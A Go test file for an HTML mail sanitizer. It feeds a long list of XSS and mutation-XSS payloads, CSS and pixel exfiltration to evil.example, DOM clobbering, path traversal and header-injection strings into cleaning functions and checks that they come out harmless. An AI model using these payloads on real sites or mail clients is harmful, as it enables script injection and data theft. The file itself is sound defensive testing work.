package mail

import (
	"regexp"
	"strings"
	"testing"

	"golang.org/x/net/html"

	"github.com/sallyport-auth/sallyport/plugins/mail/jmap"
)

// hostile are mails of strangers.
var hostile = []string{
	`<script>alert(1)</script>`, `<SCRIPT SRC=//evil.example/x.js></SCRIPT>`, `<scr<script>ipt>alert(1)</scr</script>ipt>`, `<script/xss src=x>`,
	`<img src=x onerror=alert(1)>`, `<img src="https://evil.example/pixel.gif" width=1>`, `<img srcset="https://evil.example/1x 1x">`, `<IMG SRC=javascript:alert(1)>`,
	`<svg onload=alert(1)>`, `<svg><script>alert(1)</script></svg>`, `<svg><animate onbegin=alert(1) attributeName=x>`, `<svg><use href="data:image/svg+xml,x#y"/></svg>`,
	`<a href="javascript:alert(1)">x</a>`, `<a href=" javascript:alert(1)">x</a>`, "<a href=\"java\tscript:alert(1)\">x</a>", "<a href=\"jav&#x0A;ascript:alert(1)\">x</a>",
	`<a href="&#106;avascript:alert(1)">x</a>`, `<a href="data:text/html,<script>alert(1)</script>">x</a>`, `<a href="vbscript:x">x</a>`, `<a href="//evil.example">x</a>`, `<a href="/account/delete">x</a>`,
	`<a href="blob:https://x/y">x</a>`, `<a href="cid:x">x</a>`, `<a href="https://evil.example" onclick="alert(1)" ping="https://evil.example/ping">x</a>`, `<a target=_self rel=opener href="https://evil.example">x</a>`,
	`<style>@import url(https://evil.example/x.css); input[value^=a]{background:url(https://evil.example/a)}</style>`, `<link rel=stylesheet href=https://evil.example/x.css>`,
	`<div style="background:url(https://evil.example/x)">x</div>`, `<p style="position:fixed;top:0;left:0;width:100%;height:100%">x</p>`, `<div style="width:expression(alert(1))">x</div>`, `<font color=red style=-moz-binding:url(x)>x</font>`,
	`<table background="https://evil.example/x"><tr><td background=https://evil.example/y>x</td></tr></table>`, `<body background=https://evil.example/x onload=alert(1)>x</body>`,
	`<meta http-equiv=refresh content="0;url=https://evil.example">`, `<base href="https://evil.example/">`, `<iframe src=https://evil.example></iframe>`, `<iframe srcdoc="<script>alert(1)</script>">`,
	`<form action=https://evil.example><input name=password><button formaction=javascript:alert(1)>x</button></form>`, `<input autofocus onfocus=alert(1)>`, `<isindex action=javascript:alert(1)>`,
	`<object data=https://evil.example/x.swf></object>`, `<embed src=x>`, `<applet code=x>`, `<video><source onerror=alert(1)></video>`, `<video poster=https://evil.example/x src=y>`, `<audio src=https://evil.example/x autoplay>`,
	`<marquee onstart=alert(1)>x</marquee>`, `<details open ontoggle=alert(1)>x</details>`, `<dialog open>x</dialog>`, `<math href="javascript:alert(1)">x</math>`, `<portal src=x>`, `<frameset onload=alert(1)>`,
	`<div id=login class=admin name=x>x</div>`, `<a id=__proto__ name=body>x</a>`, `<img name=cookie>`, // DOM clobbering
	// Mutations: what one parser takes for text is markup for the next.
	`<noscript><p title="</noscript><img src=x onerror=alert(1)>">`, `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">`,
	`<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">`, `<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>`, `<math><annotation-xml encoding="text/html"><style></annotation-xml><img src=x onerror=alert(1)>`,
	`<title><a title="</title><img src=x onerror=alert(1)>">`, `<textarea><a title="</textarea><img src=x onerror=alert(1)>">`, `<xmp><p title="</xmp><svg/onload=alert(1)>">`, `<select><template><style><!--</style><a rel="--></style></template></select><img src=x onerror=alert(1)>">`,
	`<!--><img src=x onerror=alert(1)>-->`, `<!--[if gte IE 4]><script>alert(1)</script><![endif]-->`, `<![CDATA[<script>alert(1)</script>]]>`, `<?xml version="1.0"?><?php x ?><img src=x onerror=alert(1)>`,
	`<plaintext><img src=x onerror=alert(1)>`, `<p title='"><img src=x onerror=alert(1)>'>x</p>`, "<img src=`x` onerror=alert(1)>", `<a href="https://x.example/?a=<script>alert(1)</script>">x</a>`,
	"<scr\x00ipt>alert(1)</scr\x00ipt>", "<img\x0csrc=x\x0conerror=alert(1)>", "\xff\xfe<script>alert(1)</script>", "<s\u202Ecript>alert(1)</script>", "<a href=\"java\u202Dscript:alert(1)\">x</a>",
	`&lt;script&gt;alert(1)&lt;/script&gt;`, `+ADw-script+AD4-alert(1)+ADw-/script+AD4-`, `<img alt="x` + "`" + `><script>alert(1)</script>">`, `<ol style=x><li onclick=x type="javascript:x">x</ol>`,
}

// harmless are the attributes that may be left, by element; "" is any.
var harmless = map[string]*regexp.Regexp{
	"href": regexp.MustCompile(`^(https?|mailto|tel):`), "rel": regexp.MustCompile(`^nofollow noreferrer( noopener)?$`), "target": regexp.MustCompile(`^_blank$`), "alt": regexp.MustCompile(`(?s)^.*$`),
	"width": regexp.MustCompile(`^\d+%?$`), "height": regexp.MustCompile(`^\d+%?$`), "colspan": regexp.MustCompile(`^\d+$`), "rowspan": regexp.MustCompile(`^\d+$`),
	"border": regexp.MustCompile(`^\d+$`), "cellpadding": regexp.MustCompile(`^\d+$`), "cellspacing": regexp.MustCompile(`^\d+$`), "align": regexp.MustCompile(`^\w+$`), "valign": regexp.MustCompile(`^\w+$`), "dir": regexp.MustCompile(`^\w+$`),
}

var elements = strings.Fields(`html head body a abbr b blockquote br caption center cite code dd del div dl dt em h1 h2 h3 h4 h5 h6 hr i img ins kbd li ol p pre q s samp small span strike
	strong sub sup table tbody td tfoot th thead tr tt u ul var`)

// dangers lists what is in HTML, as a browser builds it, and is not harmless.
func dangers(t *testing.T, text string) (out []string) {
	t.Helper()
	known := map[string]bool{}
	for _, e := range elements {
		known[e] = true
	}
	doc, err := html.Parse(strings.NewReader(text))
	if err != nil {
		t.Fatal(err)
	}
	for n := range doc.Descendants() {
		switch {
		case n.Type == html.CommentNode || n.Type == html.DoctypeNode:
			out = append(out, "a comment")
		case n.Type == html.ElementNode && (!known[n.Data] || n.Namespace != ""):
			out = append(out, "<"+n.Data+">")
		}
		for _, a := range n.Attr {
			if ok := harmless[a.Key]; ok == nil || !ok.MatchString(a.Val) {
				out = append(out, n.Data+" "+a.Key+"="+a.Val)
			}
		}
		if n.Type == html.ElementNode && n.Data == "a" && strings.Contains(text, "href") && !strings.Contains(text, "rel=\"nofollow noreferrer") {
			out = append(out, "a link without rel")
		}
	}
	return out
}

// TestHostile looks at what a browser's parser makes of the cleaned HTML, also when it stands
// in other places of a page, and once more after it has been written and read again.
func TestHostile(t *testing.T) {
	all := strings.Join(hostile, "\n")
	for _, h := range append(hostile, all) {
		got, _ := clean(h)
		for _, around := range []string{"%", "<div>%</div>", "<table><tr><td>%</td></tr></table>", "<p>%</p>", "<table>%</table>"} {
			page := strings.Replace(around, "%", got, 1)
			if bad := dangers(t, page); len(bad) > 0 {
				t.Errorf("%.200q\nbecame %.300q\nwhich has %v in %s", h, got, bad, around)
			}
			var again strings.Builder
			doc, err := html.Parse(strings.NewReader(page))
			if err != nil {
				t.Fatal(err)
			}
			if err := html.Render(&again, doc); err != nil {
				t.Fatal(err)
			}
			if bad := dangers(t, again.String()); len(bad) > 0 {
				t.Errorf("%.200q, read twice, has %v", h, bad)
			}
		}
		if strings.ContainsAny(got, "\u202D\u202E\x00") {
			t.Errorf("%q became %q", h, got)
		}
	}
}

func FuzzClean(f *testing.F) {
	for _, h := range hostile {
		f.Add(h)
	}
	f.Fuzz(func(t *testing.T, s string) {
		got, _ := clean(s)
		if bad := dangers(t, "<div>"+got+"</div>"); len(bad) > 0 {
			t.Errorf("%q became %q, which has %v", s, got, bad)
		}
	})
}

// What people write stays.
func TestFriendly(t *testing.T) {
	for in, want := range map[string]string{
		`<p dir="rtl">שלום <b>b</b> &amp; <i>i</i></p>`:                              `<p dir="rtl">שלום <b>b</b> &amp; <i>i</i></p>`,
		`<a href="https://example.com/?a=1&amp;b=2">x</a>`:                           `<a href="https://example.com/?a=1&amp;b=2" rel="nofollow noreferrer noopener" target="_blank">x</a>`,
		`<a href="mailto:bob@example.com">Bob</a>`:                                   `<a href="mailto:bob@example.com" rel="nofollow noreferrer">Bob</a>`,
		`<table width="100%"><tr><td colspan=2 align=center>x</td></tr></table>`:     `<table width="100%"><tr><td colspan="2" align="center">x</td></tr></table>`,
		`<blockquote type="cite"><ul><li>one<li>two</ul></blockquote>`:               `<blockquote><ul><li>one<li>two</ul></blockquote>`,
		`<img src="https://example.com/a.png" alt="Our house" width=300 height=200>`: `<img alt="Our house" width="300" height="200">`,
		`1 < 2 and "quoted"`: `1 &lt; 2 and &#34;quoted&#34;`,
	} {
		if got, _ := clean(in); got != want {
			t.Errorf("%s\nbecame %s\nwant   %s", in, got, want)
		}
	}
	if _, blocked := clean("<p>no image</p>"); blocked {
		t.Error("an image of nothing")
	}
	if _, blocked := clean("<IMG\nsrc=x>"); !blocked {
		t.Error("an image was overlooked")
	}
}

// Ten megabytes, and a million open elements, are bounded.
func TestLargeHTML(t *testing.T) {
	for _, s := range []string{strings.Repeat("<p>x</p>", 10<<20/8), strings.Repeat("<div>", 1<<20), strings.Repeat("<svg>", 1<<20), strings.Repeat("<a href='", 1<<20), strings.Repeat("&", 10<<20), strings.Repeat("<", 10<<20)} {
		if got, _ := clean(s); len(got) > 6*maxHTML {
			t.Errorf("%.20q...: %d bytes", s, len(got))
		}
	}
}

func TestBodies(t *testing.T) {
	one, two, three := "1", "2", "3"
	part := func(id *string, typ string) jmap.Part { return jmap.Part{PartID: id, Type: typ} }
	e := &jmap.Email{BodyValues: map[string]jmap.BodyValue{"1": {Value: "a <b>\x00\u202E"}, "2": {Value: "<i>rich</i>", IsTruncated: true}, "3": {Value: "tail"}},
		TextBody: []jmap.Part{part(&one, "text/plain"), part(&three, "text/plain"), part(nil, "image/png")}, HTMLBody: []jmap.Part{part(&two, "text/html"), part(&one, "text/plain"), part(nil, "image/png")}}
	plain, rich, truncated, _ := bodies(e)
	if plain == nil || *plain != "a <b>tail" || rich == nil || *rich != "<i>rich</i><pre>a &lt;b&gt;</pre>" || !truncated {
		t.Errorf("%q, %q, %v", text(plain), text(rich), truncated)
	}
	e.HTMLBody = e.TextBody
	if plain, rich, truncated, _ = bodies(e); plain == nil || rich != nil || truncated {
		t.Errorf("%q, %q, %v", text(plain), text(rich), truncated)
	}
	if plain, rich, _, _ = bodies(&jmap.Email{}); plain != nil || rich != nil {
		t.Error("bodies of nothing")
	}
}

// TestManyParts: a server that names the same part again and again multiplies its answer.
func TestManyParts(t *testing.T) {
	one := "1"
	e := &jmap.Email{BodyValues: map[string]jmap.BodyValue{one: {Value: strings.Repeat("a", 1000)}},
		TextBody: make([]jmap.Part, 10_000), HTMLBody: make([]jmap.Part, 10_000)}
	for i := range e.TextBody {
		e.TextBody[i], e.HTMLBody[i] = jmap.Part{PartID: &one, Type: "text/plain"}, jmap.Part{PartID: &one, Type: "text/html"}
	}
	plain, rich, truncated, _ := bodies(e)
	if len(text(plain)) != 1000*maxParts || len(text(rich)) != 1000*maxParts || !truncated {
		t.Errorf("%d and %d bytes, truncated: %v", len(text(plain)), len(text(rich)), truncated)
	}
}

func TestTexts(t *testing.T) {
	for in, want := range map[string]string{
		"a\r\nBcc: b": "a Bcc: b", "  x  ": "x", "gpj.\u202Eexe": "gpj.exe", "a\u2066b\u2069": "ab", "zero\u200Bwidth": "zerowidth", "क\u200Dष": "क\u200Dष", "\x00\x1b[31m": "[31m",
		"a\u2028b": "a b", "\xff": "\uFFFD", strings.Repeat("é", 300): strings.Repeat("é", 20),
	} {
		if got := line(in, 20); got != want {
			t.Errorf("%q became %q, want %q", in, got, want)
		}
	}
	for in, want := range map[string]string{
		"../../etc/passwd": "passwd", `C:\x\..\y.txt`: "y.txt", "": "attachment", "...": "attachment", "/": "attachment", `a"b<c>.pdf`: "a_b_c_.pdf", "photo\u202Egpj.exe": "photogpj.exe",
		"Größe.pdf": "Größe.pdf", "a\r\nX: y": "a X_ y", "con.txt": "con.txt",
	} {
		if got := fileName(&jmap.Part{Name: &in}); got != want {
			t.Errorf("%q became %q, want %q", in, got, want)
		}
	}
	for in, want := range map[string]string{"text/html; charset=utf-8": "application/octet-stream", "IMAGE/SVG+XML": "application/octet-stream", "image/PNG": "image/png", "x": "application/octet-stream", "text/plain\r\nX: y": "application/octet-stream"} {
		if got := savedType(in); got != want {
			t.Errorf("%q became %q, want %q", in, got, want)
		}
	}
	for in, want := range map[string]string{`"<a@b> <c@d>"`: "a@b c@d", `["a@b","<c@d>"]`: "a@b c@d", `null`: "", ``: "", `"a b@c"`: "a b@c", `"a@b\r\nBcc: x"`: "a@b Bcc: x"} {
		ids, ok := references([]byte(in))
		if got := strings.Join(ids, " "); !ok || got != want {
			t.Errorf("%s: %v, %v", in, ids, ok)
		}
	}
	for _, in := range []string{`1`, `{}`, `[1]`, `"é@x"`, `["` + strings.Repeat("a", 300) + `"]`} {
		if ids, ok := references([]byte(in)); ok {
			t.Errorf("%s: %v", in, ids)
		}
	}
}
